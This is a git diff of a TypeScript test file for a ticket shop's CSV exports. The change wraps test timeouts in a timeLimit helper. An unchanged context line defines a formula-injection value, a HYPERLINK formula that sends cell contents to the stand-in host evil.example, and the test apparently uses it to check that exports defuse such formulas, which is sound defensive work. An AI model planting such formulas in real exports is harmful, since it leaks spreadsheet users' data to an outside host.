@@ -9,6 +9,7 @@ import { createStatementRecorder } from '../../../test/statement-recorder';
 import { createTestShop, type TestShop } from '../../../test/test-shop';
 import { checkinLists, checkins, checkinStates, customers, events, invoices, orders, scanners, shopItems, staffAudit, tickets, travelTimes } from '../../db/schema';
 import { CSV_BOM, readCsv, undefused } from './csv';
+import { timeLimit } from '../../../test/time-limits';
 
 const SECRET = 'exports-test-secret-of-at-least-32-characters';
 const HOSTILE_BUYER = '=HYPERLINK("http://evil.example/?"&A1,"click")';
@@ -69,7 +70,7 @@ describe.each(testEngines())('the exports on %s', (engine) => {
     const [otherOrder] = await db.insert(orders).values({ code: 'OTHERORDER1', customerId: buyer.id, totalPrice: 1000, paymentMethod: 'bank_transfer' }).returning();
     otherTicket = 'OTHERTICKET00000001';
     await db.insert(tickets).values({ code: otherTicket, orderId: otherOrder!.id, shopItemId: otherItem!.id, productName: 'Other day', productType: 'ticket', fullName: 'Other holder', price: 1000, fee: 0 });
-  }, 120_000);
+  }, timeLimit(120_000));
   afterAll(async () => {
     await shop?.close();
   });
@@ -234,5 +235,5 @@ describe.each(testEngines())('the exports on %s', (engine) => {
     } finally {
       recorder?.restore();
     }
-  }, 60_000);
+  }, timeLimit(60_000));
 });
